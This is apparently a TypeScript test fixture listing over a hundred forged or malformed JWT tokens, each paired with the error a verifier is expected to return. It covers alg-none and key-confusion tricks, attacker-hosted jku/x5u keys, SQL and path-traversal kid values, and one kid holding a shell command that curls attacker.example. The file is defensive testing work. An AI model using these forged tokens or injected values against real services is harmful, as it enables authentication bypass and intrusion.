import { createHash, createPublicKey, sign } from 'node:crypto';
import type { TokenErrorReason } from '../../src/auth/token-error.js';
import {
  CLAIMS,
  HEADER,
  NOW_SECONDS,
  encodePart,
  keyPair,
  makeSecretToken,
  makeToken,
  otherPair,
  rsaPair,
} from './tokens.js';

export const goodToken = makeToken();
const [goodHeader = '', goodPayload = '', goodSignature = ''] = goodToken.split('.');
const publicPem = createPublicKey({ key: keyPair.publicJwk, format: 'jwk' }).export({ type: 'spki', format: 'pem' });

/** Signed by the attacker's key. */
export function forge(header: Readonly<Record<string, unknown>>): string {
  return makeToken({ header, key: otherPair.privateKey });
}

function withPart(index: number, part: string): string {
  return goodToken.split('.').with(index, part).join('.');
}

/** Another spelling of the same bytes: the bits that base64url leaves unused are set. */
function withLooseEnd(part: string): string {
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
  return part.slice(0, -1) + alphabet.charAt(alphabet.indexOf(part.slice(-1)) + 1);
}

/** A header of this very text, the attacker's signature. */
function withHeaderText(header: string): string {
  const input = `${Buffer.from(header).toString('base64url')}.${goodPayload}`;
  return `${input}.${sign('sha256', Buffer.from(input), { key: otherPair.privateKey, dsaEncoding: 'ieee-p1363' }).toString('base64url')}`;
}

/** The claims as text, with one more at their end, though there may be one of that name. */
function withClaimLast(name: string, value: unknown, claims: object = {}): string {
  return `${JSON.stringify({ ...CLAIMS, ...claims }).slice(0, -1)},"${name}":${JSON.stringify(value)}}`;
}

/** Both halves of a signature as ASN.1 integers. */
function toDer(signature: string): string {
  const bytes = Buffer.from(signature, 'base64url');
  const integers = [bytes.subarray(0, 32), bytes.subarray(32)].map((half) =>
    Buffer.concat([Buffer.from([2, 33, 0]), half]),
  );
  return Buffer.concat([Buffer.from([48, 70]), ...integers]).toString('base64url');
}

/** What is wrong with a token, the token, and why it is refused. The decoy is the address of a server of the attacker's. */
export type Attack = readonly [name: string, make: (decoy: string) => string, reason: TokenErrorReason];

export const attacks: readonly Attack[] = [
  ['alg none without a signature', () => `${encodePart({ ...HEADER, alg: 'none' })}.${goodPayload}.`, 'MALFORMED'],
  ['alg none with a signature', () => withPart(0, encodePart({ ...HEADER, alg: 'none' })), 'WRONG_ALGORITHM'],
  ['alg NoNe', () => withPart(0, encodePart({ ...HEADER, alg: 'NoNe' })), 'WRONG_ALGORITHM'],
  ['no alg', () => withPart(0, encodePart({ typ: 'at+jwt', kid: 'main' })), 'MALFORMED'],
  ['alg that is no text', () => withPart(0, encodePart({ ...HEADER, alg: ['ES256'] })), 'MALFORMED'],
  ['alg that every object has', () => withPart(0, encodePart({ ...HEADER, alg: 'constructor' })), 'WRONG_ALGORITHM'],
  ['HS256 with the public key in PEM as secret', () => makeSecretToken(String(publicPem)), 'WRONG_ALGORITHM'],
  ['HS256 with the public JWK as secret', () => makeSecretToken(JSON.stringify(keyPair.publicJwk)), 'WRONG_ALGORITHM'],
  ['HS256 with an empty secret', () => makeSecretToken(''), 'WRONG_ALGORITHM'],
  ['an algorithm that is not among the accepted', () => forge({ alg: 'ES384' }), 'WRONG_ALGORITHM'],
  [
    "another algorithm than the key's",
    () => makeToken({ header: { alg: 'RS256' }, key: rsaPair.privateKey }),
    'UNKNOWN_KEY',
  ],
  ['edited payload', () => withPart(1, encodePart({ ...CLAIMS, sub: 'user-2' })), 'BAD_SIGNATURE'],
  ['edited header', () => withPart(0, encodePart({ ...HEADER, typ: 'JWT' })), 'BAD_SIGNATURE'],
  [
    "another token's signature",
    () => withPart(2, makeToken({ claims: { sub: 'user-2' } }).split('.')[2] ?? ''),
    'BAD_SIGNATURE',
  ],
  ['signature of zeros', () => withPart(2, Buffer.alloc(64).toString('base64url')), 'BAD_SIGNATURE'],
  ['cut signature', () => withPart(2, goodSignature.slice(0, 40)), 'BAD_SIGNATURE'],
  ["own key under the known key's name", () => forge({}), 'BAD_SIGNATURE'],
  ['own key embedded as jwk', () => forge({ jwk: otherPair.publicJwk }), 'BAD_SIGNATURE'],
  ['own key embedded as jwk, own kid', () => forge({ kid: 'other', jwk: otherPair.publicJwk }), 'UNKNOWN_KEY'],
  ['own key set as jku', (decoy) => forge({ kid: 'other', jku: decoy }), 'UNKNOWN_KEY'],
  ['own key set as jku, no kid', (decoy) => forge({ kid: undefined, jku: decoy }), 'BAD_SIGNATURE'],
  ['own certificate as x5u', (decoy) => forge({ kid: 'other', x5u: decoy }), 'UNKNOWN_KEY'],
  ['own certificate as x5c', () => forge({ kid: 'other', x5c: ['MIIB'] }), 'UNKNOWN_KEY'],
  ['own certificate by x5t', () => forge({ kid: 'other', x5t: createHash('sha1').digest('base64url') }), 'UNKNOWN_KEY'],
  ['kid that is a path', () => forge({ kid: '../../../dev/null' }), 'UNKNOWN_KEY'],
  ['kid that is SQL', () => forge({ kid: "' UNION SELECT 'key' --" }), 'UNKNOWN_KEY'],
  ['kid that is a URL', (decoy) => forge({ kid: decoy }), 'UNKNOWN_KEY'],
  ['kid that every object has', () => forge({ kid: '__proto__' }), 'UNKNOWN_KEY'],
  ['kid in another case', () => makeToken({ header: { kid: 'MAIN' } }), 'UNKNOWN_KEY'],
  ['kid that is no text', () => makeToken({ header: { kid: { $ne: null } } }), 'UNKNOWN_KEY'],
  ['kid null', () => makeToken({ header: { kid: null } }), 'UNKNOWN_KEY'],
  ['kid of 10 000 characters', () => forge({ kid: 'k'.repeat(10_000) }), 'UNKNOWN_KEY'],
  ['crit that is not understood', () => makeToken({ header: { crit: ['exp'], exp: 1 } }), 'MALFORMED'],
  ['crit b64', () => makeToken({ header: { crit: ['b64'], b64: true } }), 'MALFORMED'],
  ['empty crit', () => makeToken({ header: { crit: [] } }), 'MALFORMED'],
  ['typ of an id token', () => makeToken({ header: { typ: 'id_token' } }), 'WRONG_TYPE'],
  ['typ of a logout token', () => makeToken({ header: { typ: 'logout+jwt' } }), 'WRONG_TYPE'],
  ['typ of a proof', () => makeToken({ header: { typ: 'dpop+jwt' } }), 'WRONG_TYPE'],
  ['typ with two prefixes', () => makeToken({ header: { typ: 'application/application/jwt' } }), 'WRONG_TYPE'],
  ['no typ', () => makeToken({ header: { typ: undefined } }), 'WRONG_TYPE'],
  ['typ that is no text', () => makeToken({ header: { typ: ['at+jwt'] } }), 'WRONG_TYPE'],
  ['expired', () => makeToken({ claims: { exp: NOW_SECONDS - 61 } }), 'EXPIRED'],
  ['not yet valid', () => makeToken({ claims: { nbf: NOW_SECONDS + 61 } }), 'NOT_YET_VALID'],
  ['issued in the future', () => makeToken({ claims: { iat: NOW_SECONDS + 61 } }), 'NOT_YET_VALID'],
  ['iat that is a text', () => makeToken({ claims: { iat: '0' } }), 'MALFORMED'],
  ['nbf that is a text', () => makeToken({ claims: { nbf: '0' } }), 'MALFORMED'],
  ['no exp', () => makeToken({ claims: { exp: undefined } }), 'NO_EXPIRY'],
  ['exp that is a text', () => makeToken({ claims: { exp: String(CLAIMS.exp) } }), 'NO_EXPIRY'],
  ['exp null', () => makeToken({ claims: { exp: null } }), 'NO_EXPIRY'],
  ['exp in milliseconds', () => makeToken({ claims: { exp: CLAIMS.exp * 1000 } }), 'NO_EXPIRY'],
  [
    'exp beyond every number',
    () => makeToken({ payload: JSON.stringify(CLAIMS).replace(/"exp":\d+/, '"exp":1e999') }),
    'NO_EXPIRY',
  ],
  ['another issuer', () => makeToken({ claims: { iss: 'https://login.example' } }), 'WRONG_ISSUER'],
  ['no issuer', () => makeToken({ claims: { iss: undefined } }), 'WRONG_ISSUER'],
  ['list of issuers', () => makeToken({ claims: { iss: [CLAIMS.iss] } }), 'WRONG_ISSUER'],
  ['another audience', () => makeToken({ claims: { aud: 'https://other.example' } }), 'WRONG_AUDIENCE'],
  ['no audience', () => makeToken({ claims: { aud: undefined } }), 'WRONG_AUDIENCE'],
  ['empty list of audiences', () => makeToken({ claims: { aud: [] } }), 'WRONG_AUDIENCE'],
  ['audience nested in a list', () => makeToken({ claims: { aud: [[CLAIMS.aud]] } }), 'WRONG_AUDIENCE'],
  [
    'audience that only begins the same',
    () => makeToken({ claims: { aud: `${CLAIMS.aud}.evil.example` } }),
    'WRONG_AUDIENCE',
  ],
  ['nobody', () => makeToken({ claims: { sub: undefined } }), 'NO_RIGHTS'],
  ['claims that are a list', () => makeToken({ payload: '[]' }), 'MALFORMED'],
  ['claims that are null', () => makeToken({ payload: 'null' }), 'MALFORMED'],
  ['claims that are no JSON', () => makeToken({ payload: '{"sub":' }), 'MALFORMED'],
  ['header that is a list', () => withPart(0, encodePart([])), 'MALFORMED'],
  ['header that is no JSON', () => withPart(0, 'AAAA'), 'MALFORMED'],
  ['alg None', () => withPart(0, encodePart({ ...HEADER, alg: 'None' })), 'WRONG_ALGORITHM'],
  ['alg in lower case', () => withPart(0, encodePart({ ...HEADER, alg: 'es256' })), 'WRONG_ALGORITHM'],
  [
    'alg twice, none first',
    () => withHeaderText('{"alg":"none","typ":"JWT","kid":"main","alg":"ES256"}'),
    'BAD_SIGNATURE',
  ],
  [
    'alg twice, none last',
    () => withHeaderText('{"alg":"ES256","typ":"JWT","kid":"main","alg":"none"}'),
    'WRONG_ALGORITHM',
  ],
  ['alg of a prototype', () => withHeaderText('{"__proto__":{"alg":"ES256"},"typ":"JWT"}'), 'MALFORMED'],
  ['signature in DER', () => withPart(2, toDer(goodSignature)), 'BAD_SIGNATURE'],
  [
    'own private key embedded as jwk',
    () => forge({ kid: undefined, jwk: otherPair.privateKey.export({ format: 'jwk' }) }),
    'BAD_SIGNATURE',
  ],
  ['own key set as jku and x5u, under the known name', (decoy) => forge({ jku: decoy, x5u: decoy }), 'BAD_SIGNATURE'],
  ['kid that is a number', () => forge({ kid: 7 }), 'UNKNOWN_KEY'],
  ['kid that is empty', () => forge({ kid: '' }), 'UNKNOWN_KEY'],
  ['kid with a NUL after', () => forge({ kid: 'main\u0000' }), 'UNKNOWN_KEY'],
  ['kid that is a command', () => forge({ kid: '$(curl attacker.example)|id' }), 'UNKNOWN_KEY'],
  [
    'header nested 3000 deep',
    () => withHeaderText(`{"alg":"ES256","typ":"JWT","kid":"main","x":${'['.repeat(3000)}${']'.repeat(3000)}}`),
    'BAD_SIGNATURE',
  ],
  [
    'crit b64 and a payload that is not encoded',
    () => makeToken({ header: { crit: ['b64'], b64: false } }),
    'MALFORMED',
  ],
  ['crit that is no list', () => makeToken({ header: { crit: 'exp' } }), 'MALFORMED'],
  ['a token in a token', () => makeToken({ header: { cty: 'JWT' }, payload: goodToken }), 'MALFORMED'],
  [
    'encrypted',
    () => [encodePart({ alg: 'RSA-OAEP-256', enc: 'A256GCM', kid: 'main' }), 'AAAA', 'AAAA', 'AAAA', 'AAAA'].join('.'),
    'MALFORMED',
  ],
  ['signed header of an encrypted token', () => forge({ enc: 'A256GCM', alg: 'RSA-OAEP-256' }), 'WRONG_ALGORITHM'],
  ['exp twice, the last one over', () => makeToken({ payload: withClaimLast('exp', NOW_SECONDS - 61) }), 'EXPIRED'],
  [
    'issuer twice, the last one another',
    () => makeToken({ payload: withClaimLast('iss', 'https://evil.example/') }),
    'WRONG_ISSUER',
  ],
  [
    'audience twice, the last one another',
    () => makeToken({ payload: withClaimLast('aud', 'https://evil.example/') }),
    'WRONG_AUDIENCE',
  ],
  ['exp negative', () => makeToken({ claims: { exp: -CLAIMS.exp } }), 'EXPIRED'],
  [
    'exp below every number',
    () => makeToken({ payload: JSON.stringify(CLAIMS).replace(/"exp":\d+/, '"exp":-1e999') }),
    'EXPIRED',
  ],
  ['exp zero', () => makeToken({ claims: { exp: 0 } }), 'EXPIRED'],
  ['exp a part of a second over', () => makeToken({ claims: { exp: NOW_SECONDS - 30.5 } }), 'EXPIRED'],
  ['exp huge', () => makeToken({ claims: { exp: 1e300 } }), 'NO_EXPIRY'],
  [
    'exp that is NaN',
    () => makeToken({ payload: JSON.stringify(CLAIMS).replace(/"exp":\d+/, '"exp":NaN') }),
    'MALFORMED',
  ],
  ['exp true', () => makeToken({ claims: { exp: true } }), 'NO_EXPIRY'],
  ['exp in a list', () => makeToken({ claims: { exp: [CLAIMS.exp] } }), 'NO_EXPIRY'],
  [
    'exp of a prototype',
    () => makeToken({ payload: withClaimLast('__proto__', { exp: CLAIMS.exp }, { exp: undefined }) }),
    'NO_EXPIRY',
  ],
  [
    'nbf beyond every number',
    () => makeToken({ payload: JSON.stringify({ ...CLAIMS, nbf: 7 }).replace('"nbf":7', '"nbf":1e999') }),
    'NOT_YET_VALID',
  ],
  ['issuer in another case', () => makeToken({ claims: { iss: CLAIMS.iss.toUpperCase() } }), 'WRONG_ISSUER'],
  ['issuer without its slash', () => makeToken({ claims: { iss: CLAIMS.iss.slice(0, -1) } }), 'WRONG_ISSUER'],
  [
    '1000 other audiences',
    () => makeToken({ claims: { aud: Array.from({ length: 1000 }, (_, index) => `a${index}`) } }),
    'WRONG_AUDIENCE',
  ],
  ['10 000 scopes', () => makeToken({ claims: { scope: 'support:read '.repeat(10_000) } }), 'TOO_LONG'],
  ['padding', () => `${goodToken}==`, 'MALFORMED'],
  ['the alphabet of plain base64', () => withPart(2, `${goodSignature.slice(0, -2)}+/`), 'MALFORMED'],
  ['white space in a part', () => withPart(1, `${goodPayload.slice(0, 4)}\n${goodPayload.slice(4)}`), 'MALFORMED'],
  ['white space around', () => ` ${goodToken}`, 'MALFORMED'],
  ['loose end of the signature', () => withPart(2, withLooseEnd(goodSignature)), 'MALFORMED'],
  ['two parts', () => `${goodHeader}.${goodPayload}`, 'MALFORMED'],
  ['four parts', () => `${goodToken}.${goodSignature}`, 'MALFORMED'],
  ['an encrypted token of five parts', () => 'a.b.c.d.e', 'MALFORMED'],
  ['empty', () => '', 'MALFORMED'],
  ['only dots', () => '..', 'MALFORMED'],
  [
    'JSON serialization',
    () => JSON.stringify({ protected: goodHeader, payload: goodPayload, signature: goodSignature }),
    'MALFORMED',
  ],
  ['16 KiB and one character', () => 'a'.repeat(16_385), 'TOO_LONG'],
  ['16 KiB of nothing', () => 'a'.repeat(16_384), 'MALFORMED'],
  ['a megabyte of dots', () => '.'.repeat(1_048_576), 'TOO_LONG'],
];
